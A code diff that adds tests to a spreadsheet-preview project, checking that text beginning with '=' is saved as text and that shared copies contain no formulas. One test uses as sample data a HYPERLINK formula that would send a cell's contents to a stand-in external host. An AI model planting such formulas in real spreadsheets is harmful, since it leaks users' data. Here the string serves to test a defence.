@@ -10,7 +10,7 @@ import { registerHeadroomFunctions } from "../../src/preview/plugin";
 import { PreviewWorkbook } from "../../src/preview/workbook";
 import { templateNames, templateSheet } from "../../src/preview/fromTemplate";
 import { readXlsx, writeXlsx } from "../../src/preview/xlsx";
-import type { WorkbookData } from "../../src/preview/model";
+import { isFormula, type WorkbookData } from "../../src/preview/model";
 import type { UnitSystem } from "../../src/engine/units";
 import { PreviewPort } from "../../src/preview/port";
 import { demoScenario } from "../../src/workbook/scenario";
@@ -123,6 +123,44 @@ describe("round trip", () => {
     const { workbook: opened } = await readXlsx(bytes, known);
     expect(opened.sheets[0].print).toEqual(t.print);
     expect(new PreviewWorkbook(opened).toData().sheets[0].print).toEqual(t.print);
+  });
+
+  test("a text cell beginning with \"=\" opens as text and is saved again as text; a formula stays a formula", async () => {
+    const x = new ExcelJS.Workbook();
+    const ws = x.addWorksheet("S");
+    ws.getCell("A1").value = "=1+1";
+    ws.getCell("A2").value = { formula: "1+1", result: 2 } as ExcelJS.CellValue;
+    ws.getCell("A3").value = "'quoted";
+    const { workbook } = await readXlsx(new Uint8Array((await x.xlsx.writeBuffer()) as ArrayBuffer), known);
+    const wb = new PreviewWorkbook(workbook);
+    expect(wb.value("S", "A1")).toBe("=1+1");
+    expect(wb.value("S", "A2")).toBe(2);
+    expect(wb.value("S", "A3")).toBe("'quoted");
+    const again = new ExcelJS.Workbook();
+    await again.xlsx.load((await writeXlsx(wb.toData(), known)) as unknown as ArrayBuffer);
+    const s = again.getWorksheet("S")!;
+    expect(s.getCell("A1").formula).toBeUndefined();
+    expect(s.getCell("A1").value).toBe("=1+1");
+    expect(s.getCell("A2").formula).toBe("1+1");
+    expect(s.getCell("A3").value).toBe("'quoted");
+  });
+
+  test("a share copy writes text beginning with \"=\" as text: the file holds no formula, ever", async () => {
+    const wb = demoWorkbook();
+    const link = '=HYPERLINK("http://example.invalid/?d="&B19,"x")';
+    wb.setTyped("Estimate", "H5", `'${link}`);
+    expect(wb.value("Estimate", "H5")).toBe(link);
+    const made = new PreviewPort(wb, () => new Date(2026, 4, 4)).shareCopyData();
+    if (!made.ok) throw new Error(made.reason);
+    const at = Object.entries(made.sheet.cells).find(([, c]) => c.cached === link || c.content === link || c.content === `'${link}`);
+    expect(at, "the share copy keeps the text").toBeDefined();
+    expect(Object.values(made.sheet.cells).filter((c) => isFormula(c.content))).toEqual([]);
+    const x = new ExcelJS.Workbook();
+    await x.xlsx.load((await writeXlsx({ sheets: [made.sheet], names: [] }, known)) as unknown as ArrayBuffer);
+    let formulas = 0;
+    x.worksheets[0].eachRow((row) => row.eachCell((c) => void (c.formula && formulas++)));
+    expect(formulas).toBe(0);
+    expect(x.worksheets[0].getCell(at![0]).value).toBe(link);
   });
 
   test("a share copy saved alone holds values only, with the stamp", async () => {
